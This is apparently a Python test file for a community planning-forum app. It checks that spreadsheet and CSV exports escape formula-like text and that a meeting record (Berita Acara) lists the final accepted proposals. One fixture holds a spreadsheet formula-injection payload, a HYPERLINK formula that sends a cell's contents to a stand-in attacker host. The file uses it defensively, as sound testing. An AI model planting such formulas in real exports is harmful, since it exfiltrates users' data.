"""The documents without a server: an export never hands a spreadsheet a formula, and a
Berita Acara shows the decision that stood at the close."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from musrenbang.documents import berita_acara, exports

HOSTILE = '=HYPERLINK("http://evil.test/?"&B2,"klik")'


def test_a_text_that_looks_like_a_formula_stays_text() -> None:
    row = {"proposal_id": "p1", "masalah": HOSTILE, "rt": "003", "cost": 5, "gagasan": "+1"}
    sheet = load_workbook(io.BytesIO(exports.to_xlsx([("Usulan", [row])])))["Usulan"]
    header = [c.value for c in sheet[1]]
    masalah = sheet.cell(2, header.index("Masalah") + 1)
    assert masalah.data_type == "s" and masalah.value == "'" + HOSTILE
    assert sheet.cell(2, header.index("RT") + 1).value == "003"
    assert sheet.cell(2, header.index("Biaya (Rp)") + 1).value == 5  # numbers stay numbers
    text = exports.to_csv([row]).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";'+1;" in text


def test_a_berita_acara_lists_the_decision_that_stood() -> None:
    opened = {"forum_id": "f", "cycle_id": "c", "stage": "kelurahan", "unit": "13.72.01.1001"}
    where = {"stage": "kelurahan", "unit": "13.72.01.1001"}
    submitted = {"proposal_id": "a", **where, "details": {"gagasan": "Pengaspalan", "cost": 9}}
    events = [
        {"proposal_id": "a", "type": "ProposalSubmitted", "payload": submitted},
        {"proposal_id": "a", "type": "ProposalRejected", "payload": {**where, "reason": "Tidak"}},
        {"proposal_id": "a", "type": "ProposalAccepted", "payload": where},
    ]
    closing = {
        "berita_acara": {"tanggal": "2027-01-20", "penandatangan": ["Lurah"]},
        "forwarded": ["a"],
        "accepted_total": 9,
    }
    doc = berita_acara.document(opened, closing, events, {}, "Kota Solok")
    assert [u["usulan"] for u in doc["agreed"]] == ["Pengaspalan"] and doc["not_agreed"] == []
